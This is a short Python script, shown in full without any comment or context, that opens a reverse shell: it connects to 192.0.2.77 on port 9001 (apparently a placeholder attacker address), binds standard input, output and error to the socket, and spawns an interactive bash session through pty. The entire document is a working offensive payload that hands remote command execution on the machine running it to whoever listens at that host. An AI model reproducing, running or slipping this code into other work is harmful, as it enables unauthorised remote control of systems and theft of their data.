import os
import pty
import socket

s = socket.create_connection(("192.0.2.77", 9001))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
